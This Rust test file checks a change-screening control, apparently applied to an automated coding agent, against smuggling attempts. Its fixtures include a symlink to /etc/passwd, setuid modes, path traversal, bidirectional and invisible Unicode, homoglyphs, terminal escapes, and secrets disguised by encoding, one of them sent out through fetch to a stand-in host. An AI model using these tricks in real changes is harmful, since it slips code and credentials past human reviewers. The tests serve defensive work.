//! What a change smuggles past the people who review it: files that nobody can read, text that is not what it looks
//! like, secrets on their way out. The control: the one rule left out, and nothing else holds the change back.
#![expect(clippy::unwrap_used, reason = "helpers of tests fail by panicking")]

use loops::{
    boundary::{Rule, judge},
    change::Diff,
    screen::{Leaving, Weight, objections},
    spec::{Boundaries, Dependencies},
};

use super::{Family, Row, supply::added};

pub(crate) fn family() -> Family {
    let shapes = SHAPES.iter().map(|shape| Row {
        tried: shape.tried.to_owned(),
        by: format!("the boundary «{:?}»", shape.rule),
        control: "that rule left out: it would go out".to_owned(),
    });
    let texts = LINES.iter().map(|line| Row {
        tried: line.tried.to_owned(),
        by: format!("the screen of changes: «{}»", line.words),
        control: "that rule left out: it would go out".to_owned(),
    });
    let secrets = SECRETS.iter().map(|secret| Row {
        tried: format!("a secret, {}", secret.tried),
        by: "the screen of secrets".to_owned(),
        control: "that screen left out: it would go out".to_owned(),
    });
    Family {
        name: "Smuggling through the change",
        how: "A change that is otherwise within its boundaries, read by the boundaries and by the screens.",
        rows: shapes.chain(texts).chain(secrets).collect(),
    }
}

/// A change of an odd shape.
struct Shape {
    tried: &'static str,
    /// A unified diff as git writes it.
    diff: &'static str,
    rule: Rule,
}

const SHAPES: &[Shape] = &[
    Shape {
        tried: "a symbolic link to a file of whoever checks it out",
        diff: "diff --git a/notes b/notes\nnew file mode 120000\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/notes\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n",
        rule: Rule::Symlink,
    },
    Shape {
        tried: "a submodule, whose content is in no diff",
        diff: "diff --git a/lib b/lib\nnew file mode 160000\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/lib\n@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n",
        rule: Rule::Submodule,
    },
    Shape {
        tried: "a file that becomes executable",
        diff: "diff --git a/src/a.py b/src/a.py\nold mode 100644\nnew mode 100755\n",
        rule: Rule::FileMode,
    },
    Shape {
        tried: "a file that anybody may take the rights of (a setuid mode)",
        diff: "diff --git a/src/a.py b/src/a.py\nold mode 100644\nnew mode 104755\n",
        rule: Rule::FileMode,
    },
    Shape {
        tried: "a binary file",
        diff: "diff --git a/src/a.so b/src/a.so\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\nBinary files /dev/null and b/src/a.so differ\n",
        rule: Rule::Binary,
    },
    Shape {
        tried: "a name that leads out of its folder",
        diff: "diff --git a/src/../../x b/src/../../x\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/src/../../x\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
    },
    Shape {
        tried: "a name with a backslash, a folder on Windows",
        diff: "diff --git \"a/src\\\\x\" \"b/src\\\\x\"\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ \"b/src\\\\x\"\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
    },
    Shape {
        tried: "a name that is turned around when it is shown",
        diff: "diff --git \"a/src/\\342\\200\\256yp.exe\" \"b/src/\\342\\200\\256yp.exe\"\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ \"b/src/\\342\\200\\256yp.exe\"\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
    },
    Shape {
        tried: "a name that is no UTF-8",
        diff: "diff --git \"a/src/\\377\" \"b/src/\\377\"\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ \"b/src/\\377\"\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
    },
    Shape {
        tried: "a name that Windows reads as another (a stream after a colon)",
        diff: "diff --git a/src/a.py:x b/src/a.py:x\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/src/a.py:x\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
    },
    Shape {
        tried: "a file that was renamed out of what the loop may not write",
        diff: "diff --git a/billing/key.py b/src/key.py\nsimilarity index 90%\nrename from billing/key.py\nrename to src/key.py\nindex 2222222222222222222222222222222222222222..1111111111111111111111111111111111111111 100644\n--- a/billing/key.py\n+++ b/src/key.py\n@@ -1 +1 @@\n-x\n+y\n",
        rule: Rule::Deny,
    },
    Shape {
        tried: "a forbidden folder in other case",
        diff: "diff --git a/Billing/key.py b/Billing/key.py\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/Billing/key.py\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::Deny,
    },
];

/// What the loop of these changes may write.
fn boundaries() -> Boundaries {
    Boundaries {
        deny: vec!["billing/**".to_owned()],
        dependencies: Dependencies::Forbid,
        ..Boundaries::default()
    }
}

#[test]
fn a_change_of_an_odd_shape_does_not_go_out() {
    for shape in SHAPES {
        let diff = Diff::parse(shape.diff.as_bytes()).unwrap();
        let found = judge(&diff, &boundaries(), &[]);
        assert!(
            found.iter().any(|violation| violation.rule == shape.rule),
            "NOT STOPPED: {}: {found:?}",
            shape.tried
        );
        let others: Vec<_> = found.iter().filter(|one| one.rule != shape.rule).collect();
        assert!(
            others.is_empty(),
            "NO HARM IN THE CONTROL: {}: {others:?}",
            shape.tried
        );
    }
}

#[test]
fn a_change_too_large_to_review_does_not_go_out() {
    let many: String = (0..21)
        .map(|n| format!("diff --git a/s/{n} b/s/{n}\nnew file mode 100644\nindex {z}..{o}\n--- /dev/null\n+++ b/s/{n}\n@@ -0,0 +1 @@\n+x\n", z = "0".repeat(40), o = "1".repeat(40)))
        .collect();
    let long = format!(
        "diff --git a/s b/s\nnew file mode 100644\nindex {}..{}\n--- /dev/null\n+++ b/s\n@@ -0,0 +1,700 @@\n{}",
        "0".repeat(40),
        "1".repeat(40),
        "+x\n".repeat(700)
    );
    for (text, rule) in [(many, Rule::MaxFiles), (long, Rule::MaxLines)] {
        let diff = Diff::parse(text.as_bytes()).unwrap();
        let found = judge(&diff, &boundaries(), &[]);
        assert_eq!(found.iter().map(|one| one.rule).collect::<Vec<_>>(), [rule]);
        let wide = Boundaries {
            max_files: 100,
            max_lines: 10_000,
            ..boundaries()
        };
        assert_eq!(judge(&diff, &wide, &[]), []);
    }
}

/// A line that is not what it looks like.
struct Line {
    tried: &'static str,
    text: &'static str,
    /// Words of the objection.
    words: &'static str,
}

const LINES: &[Line] = &[
    Line {
        tried: "code that is shown in another order than it runs",
        text: "if access != \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\":",
        words: "another order",
    },
    Line {
        tried: "an invisible character in a name",
        text: "def check\u{200b}(): pass",
        words: "invisible",
    },
    Line {
        tried: "a name that is a blank (Hangul filler)",
        text: "const {x, \u{3164}} = y",
        words: "invisible",
    },
    Line {
        tried: "a message in invisible letters (tags)",
        text: "x = 'a\u{e0041}\u{e0042}'",
        words: "invisible",
    },
    Line {
        tried: "a message in shapes of signs (variation selectors)",
        text: "x = 'a\u{fe01}\u{fe02}'",
        words: "invisible",
    },
    Line {
        tried: "a line that ends elsewhere for the compiler",
        text: "x = 1\u{2028}y = 2",
        words: "invisible",
    },
    Line {
        tried: "commands to the reviewer's terminal",
        text: "echo ok \u{1b}[2K\u{1b}[1A",
        words: "control",
    },
    Line {
        tried: "text that is typed over on the screen (carriage return)",
        text: "safe = 1 # \rdanger = 2",
        words: "control",
    },
    Line {
        tried: "a Cyrillic letter in a Latin name",
        text: "if is_\u{430}dmin:",
        words: "looks like",
    },
    Line {
        tried: "a full-width letter in a Latin name",
        text: "\u{ff50}assword = 1",
        words: "looks like",
    },
    Line {
        tried: "a mathematical letter, which Python reads as a plain one",
        text: "\u{1d41e}val(x)",
        words: "looks like",
    },
    Line {
        tried: "code behind a wide gap",
        text: "x = 1;                                                                                                                                                                                                          import os",
        words: "blanks",
    },
    Line {
        tried: "code in a line that is too long to read",
        text: LONG,
        words: "characters, which nobody can review",
    },
    Line {
        tried: "a program as encoded data",
        text: DATA,
        words: "encoded data",
    },
];

const LONG: &str = "a + {4000 more}";
const DATA: &str = "x = '{900 of base64}'";

fn text_of(line: &Line) -> String {
    match line.text {
        LONG => "a + ".repeat(2_000),
        DATA => format!("x = '{}'", noise(900)),
        text => text.to_owned(),
    }
}

/// Letters that look random, the same every time.
fn noise(count: usize) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = 88_172_645_463_325_252_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        char::from(LETTERS[usize::try_from(state % 62).unwrap()])
    };
    (0..count).map(|_| next()).collect()
}

/// The objections that hold a change back.
fn refusing(diff: &Diff, texts: &[(&str, &str)]) -> Vec<String> {
    objections(Leaving { diff, texts })
        .into_iter()
        .filter(|one| one.weight == Weight::Refuses)
        .map(|one| one.words)
        .collect()
}

#[test]
fn a_line_that_is_not_what_it_looks_like_does_not_go_out() {
    for line in LINES {
        let diff = added("src/a.py", &text_of(line));
        let found = refusing(&diff, &[]);
        assert!(
            found.iter().any(|words| words.contains(line.words)),
            "NOT STOPPED: {}: {found:?}",
            line.tried
        );
        let others: Vec<_> = found
            .iter()
            .filter(|words| !words.contains(line.words) && !words.contains("a secret"))
            .collect();
        assert!(
            others.is_empty(),
            "NO HARM IN THE CONTROL: {}: {others:?}",
            line.tried
        );
        let boundary = judge(&diff, &boundaries(), &[]);
        assert!(
            boundary.is_empty(),
            "NO HARM IN THE CONTROL: {}: {boundary:?}",
            line.tried
        );
    }
}

/// A way out for a secret.
struct Secret {
    tried: &'static str,
    /// The text from the secret.
    text: fn(&str) -> String,
    /// Where it stands.
    place: Place,
}

enum Place {
    Line,
    Path,
    Title,
    Account,
}

const SECRETS: &[Secret] = &[
    Secret {
        tried: "as it is",
        text: |secret| format!("k = '{secret}'"),
        place: Place::Line,
    },
    Secret {
        tried: "in a comment",
        text: |secret| format!("# {secret}"),
        place: Place::Line,
    },
    Secret {
        tried: "in two strings that are put together",
        text: |secret| format!("k = '{}' + '{}'", &secret[..10], &secret[10..]),
        place: Place::Line,
    },
    Secret {
        tried: "in two strings that stand side by side",
        text: |secret| format!("k = \"{}\" \"{}\"", &secret[..10], &secret[10..]),
        place: Place::Line,
    },
    Secret {
        tried: "in hexadecimal digits",
        text: |secret| format!("k = bytes.fromhex('{}')", hex::encode(secret)),
        place: Place::Line,
    },
    Secret {
        tried: "in base64",
        text: |secret| {
            use base64::Engine as _;
            format!(
                "k = '{}'",
                base64::engine::general_purpose::STANDARD.encode(secret)
            )
        },
        place: Place::Line,
    },
    Secret {
        tried: "with an invisible character in it",
        text: |secret| format!("k = '{}\u{200b}{}'", &secret[..10], &secret[10..]),
        place: Place::Line,
    },
    Secret {
        tried: "in full-width letters",
        text: |secret| {
            let wide = secret[..10].chars();
            let wide: String = wide
                .map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap())
                .collect();
            format!("k = '{wide}{}'", &secret[10..])
        },
        place: Place::Line,
    },
    Secret {
        tried: "in an address that is fetched",
        text: |secret| format!("fetch('https://x.example/?k={secret}')"),
        place: Place::Line,
    },
    Secret {
        tried: "in the name of a file",
        text: |secret| format!("docs/{secret}.md"),
        place: Place::Path,
    },
    Secret {
        tried: "in the title of the pull request",
        text: |secret| format!("Mend {secret}"),
        place: Place::Title,
    },
    Secret {
        tried: "in the worker's account",
        text: |secret| format!("I used {secret} to test."),
        place: Place::Account,
    },
];

#[test]
fn no_secret_goes_out() {
    let secret = format!("ghp_{}", noise(36));
    for case in SECRETS {
        let text = (case.text)(&secret);
        let plain = added("src/a.py", "x = 1");
        let (diff, texts) = match case.place {
            Place::Line => (added("src/a.py", &text), vec![]),
            Place::Path => (added(&text, "hello"), vec![]),
            Place::Title => (plain, vec![("title", text.as_str())]),
            Place::Account => (plain, vec![("account", text.as_str())]),
        };
        let found = refusing(&diff, &texts);
        assert!(
            found.iter().any(|words| words.contains("a secret")),
            "NOT STOPPED: {}: {found:?}",
            case.tried
        );
        assert!(!found.join(" ").contains(&secret), "it is told: {}", case.tried);
        // What else is said is about the same characters: without that screen, and theirs, it goes out.
        let others: Vec<_> = found
            .iter()
            .filter(|words| {
                !["a secret", "invisible", "looks like"]
                    .iter()
                    .any(|own| words.contains(own))
            })
            .collect();
        assert!(
            others.is_empty(),
            "NO HARM IN THE CONTROL: {}: {others:?}",
            case.tried
        );
        let boundary = judge(&diff, &boundaries(), &[]);
        assert!(
            boundary.is_empty(),
            "NO HARM IN THE CONTROL: {}: {boundary:?}",
            case.tried
        );
    }
}
